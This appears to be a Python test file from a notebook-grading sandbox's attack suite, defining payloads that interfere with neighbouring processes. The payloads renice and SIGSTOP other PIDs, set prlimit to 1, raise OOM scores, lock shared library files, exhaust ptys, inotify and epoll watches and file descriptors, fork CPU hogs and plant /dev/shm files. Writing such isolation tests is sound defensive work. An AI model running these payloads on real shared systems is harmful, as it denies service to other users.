"""Attacks on whoever is graded later or at the same time."""

from engine.tests.attacks.attack import Theme

theme = Theme("neighbours")

_EVERYBODY = """
import ctypes, os, resource, signal
library = ctypes.CDLL(None, use_errno=True)
try:
    everybody = [int(name) for name in os.listdir("/proc") if name.isdigit()]
except OSError:
    everybody = []
# Where /proc can't be listed, ids near one's own are good guesses.
everybody += range(os.getppid() - 20, os.getpid() + 20)
everybody = [process for process in everybody if process > 0 and process != os.getpid()]
def on_everybody(action):
    for process in everybody:
        try:
            action(process)
        except (OSError, ValueError):
            pass
"""

for name, tries, action in (
    (
        "limits-of-others",
        "lowers limits that later notebooks inherit from their server",
        "for limit in (resource.RLIMIT_FSIZE, resource.RLIMIT_DATA, resource.RLIMIT_NOFILE, "
        "resource.RLIMIT_NPROC, resource.RLIMIT_CPU, resource.RLIMIT_AS, resource.RLIMIT_STACK): "
        "resource.prlimit(process, limit, (1, 1))",
    ),
    (
        "scheduling-of-others",
        "makes the server, and what is forked from it, run only when nobody else does",
        "os.sched_setscheduler(process, os.SCHED_IDLE, os.sched_param(0))",
    ),
    ("affinity-of-others", "ties the server to one processor",
     "os.sched_setaffinity(process, {min(os.sched_getaffinity(0))})"),
    ("priority-of-others", "lowers the server's priority",
     "os.setpriority(os.PRIO_PROCESS, process, 19)"),
    ("io-priority-of-others", "lowers the server's priority for input and output",
     "library.syscall({'x86_64': 251, 'aarch64': 30}[os.uname().machine], 1, process, 3 << 13)"),
    ("stops-others", "stops the server and the neighbours for a while",
     "os.kill(process, signal.SIGSTOP)"),
    ("interrupts-others", "interrupts everybody's computation",
     "signal.pidfd_send_signal(os.pidfd_open(process), signal.SIGINT)"),
    ("memory-score-of-others", "makes the system end the server first when memory runs out",
     "open(f'/proc/{process}/oom_score_adj', 'w').write('1000')"),
    ("slack-of-others", "lets the server's timers be late",
     "open(f'/proc/{process}/timerslack_ns', 'w').write('9000000000')"),
):  # fmt: skip
    theme.code(
        name,
        tries,
        f"{_EVERYBODY}\ndef attempt(process):\n    {action}\non_everybody(attempt)",
        reckless=True,
    )

theme.code(
    "priority-of-the-user",
    "lowers the priority of all processes of its user, and of its parent's group",
    f"""{_EVERYBODY}
for which, who in ((os.PRIO_USER, 0), (os.PRIO_PGRP, os.getpgid(os.getppid()))):
    try:
        os.setpriority(which, who, 19)
    except OSError as error:
        print(error)
""",
    reckless=True,
)
theme.code(
    "leases",
    "makes everybody wait who opens a file that notebooks share",
    """
    import fcntl, os, signal, sys, threading, time
    signal.signal(signal.SIGIO, signal.SIG_IGN)
    roots = ["/given", "/modules", *sys.path]
    paths = [os.path.join(folder, name) for root in roots if root
             for folder, _, names in os.walk(root) for name in names][:3000]
    def hold():
        held = []
        for path in paths:
            try:
                held.append(os.open(path, os.O_RDONLY))
                fcntl.fcntl(held[-1], 1024, fcntl.F_WRLCK)
            except OSError:
                pass
        time.sleep(3)
    threading.Thread(target=hold, daemon=True).start()
    time.sleep(1.5)
    """,
    reckless=True,
)
theme.code(
    "locks",
    "locks files that notebooks share, so that libraries wait for them",
    """
    import fcntl, os, sys
    for root in ("/given", "/modules", *sys.path[:3]):
        for folder, _, names in os.walk(root or "."):
            for name in names[:50]:
                try:
                    fcntl.flock(os.open(os.path.join(folder, name), os.O_RDONLY), fcntl.LOCK_EX)
                    print("canary-" + "achieved", "locked")
                except OSError:
                    pass
    """,
    reckless=True,
)
theme.code(
    "watches",
    "uses up the machine's watches on files, its asynchronous requests and its pipes' memory",
    """
    import ctypes, fcntl, os, platform
    library = ctypes.CDLL(None, use_errno=True)
    numbers = (294, 206, 300) if platform.machine() == "x86_64" else (26, 0, 262)
    for number in numbers:
        made = 0
        while made < 1000 and library.syscall(number, 0 if number != 206 else 60000,
                                              ctypes.byref(ctypes.c_ulong(0))) >= 0:
            made += 1
        print(number, made)
    try:
        for _ in range(200):
            fcntl.fcntl(os.pipe()[1], 1031, 1 << 20)
    except OSError as error:
        print(error)
    """,
    reckless=True,
)
theme.code(
    "many-threads",
    "computes in as many threads and processes as it may, so that nobody else can",
    """
    import os, time
    for _ in range(40):
        if os.fork() == 0:
            os.setsid()
            end = time.monotonic() + 1.5
            while time.monotonic() < end:
                pass
            os._exit(0)
    time.sleep(1.5)
    """,
    reckless=True,
)
theme.code(
    "watches-of-the-user",
    "uses up the watches of epoll that all of a user's notebooks have together",
    """
    import os, select, time
    for _ in range(26):
        if os.fork() == 0:
            os.setsid()
            events = [os.eventfd(0) for _ in range(450)]
            pollers = [select.epoll() for _ in range(450)]
            while True:
                try:
                    for poller in pollers:
                        for event in events:
                            poller.register(event, 1)
                    break
                except OSError:
                    time.sleep(0.01)
            time.sleep(20)
    time.sleep(20)
    """,
    attention="epoll",
    reckless=True,
)
theme.code(
    "descriptors-on-their-way",
    "sends open files to nobody until none of its user's notebooks can send one",
    """
    import array, socket, time
    one, other = socket.socketpair()
    files = array.array("i", [0] * 250)
    try:
        while True:
            one.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, files)])
    except OSError:
        time.sleep(20)
    """,
    attention="open files",
    reckless=True,
)
theme.code(
    "terminals",
    "takes all of the machine's pseudo-terminals",
    """
    import os, pty
    taken = []
    for make in (os.openpty, lambda: os.open("/dev/ptmx", os.O_RDWR),
                 lambda: os.open("/dev/pts/ptmx", os.O_RDWR)):
        try:
            while len(taken) < 5000:
                taken.append(make())
        except OSError as error:
            print(error)
    if taken:
        print("canary-" + "achieved", len(taken))
    """,
    reckless=True,
)
theme.code(
    "names-in-shared-memory",
    "takes names in shared memory that others may want, and leaves them something to read",
    """
    import os
    for name in ("psm_course", "course", "sem.course"):
        try:
            file = os.open(f"/dev/shm/{name}-canary", os.O_CREAT | os.O_RDWR, 0o666)
            os.fchmod(file, 0o666)
            os.write(file, b"the answer is 42")
        except OSError as error:
            print(error)
    # In a sandbox of its own nobody else sees it.
    if not os.path.exists("/course") and os.path.exists("/dev/shm/course-canary"):
        print("canary-" + "achieved")
    """,
    reckless=True,
)
theme.code(
    "connection-that-will-not-close",
    "hands the grader the last descriptor of a connection whose end takes a day",
    """
    import array, os, socket, struct, time
    def stuck():
        listener = socket.socket()
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        listener.bind(("127.0.0.1", 0))
        listener.listen(1)
        client = socket.socket()
        client.connect(listener.getsockname())
        kept.extend([listener, listener.accept()[0]])
        client.setblocking(False)
        try:
            while True:
                client.send(bytes(65536))
        except BlockingIOError:
            pass
        client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 100000))
        return client
    kept, channels = [], []
    for number in os.listdir("/proc/self/fd"):
        try:
            channel = socket.socket(fileno=os.dup(int(number)))
            if channel.family == socket.AF_UNIX and channel.getpeername() is not None:
                channels.append(channel)
        except OSError:
            pass
    try:
        for attempt in range(8):
            for channel in channels:
                client = stuck()
                if os.fork() == 0:
                    time.sleep(0.2 + 0.05 * attempt)
                    passed = [(socket.SOL_SOCKET, socket.SCM_RIGHTS,
                               array.array("i", [client.fileno()]))]
                    try:
                        channel.sendmsg([b"\\x04\\x06\\x04PING!"], passed)
                    except OSError:
                        pass
                    os.close(client.fileno())
                    os._exit(0)
                os.close(client.detach())
        time.sleep(1)
    except OSError as error:
        print(error)
    """,
    reckless=True,
)
theme.code(
    "descriptors-in-descriptors",
    "sends sockets that hold sent files themselves, to nobody",
    """
    import array, os, socket, time
    right = (socket.SOL_SOCKET, socket.SCM_RIGHTS)
    null = os.open("/dev/null", os.O_RDONLY)
    outer = socket.socketpair()
    for _ in range(10):
        inner = socket.socketpair()
        inner[0].sendmsg([b"x"], [(*right, array.array("i", [null] * 100))])
        outer[0].sendmsg([b"x"], [(*right, array.array("i", [inner[1].fileno()]))])
        for one in inner:
            one.close()
    time.sleep(20)
    """,
    attention="open files",
    reckless=True,
)
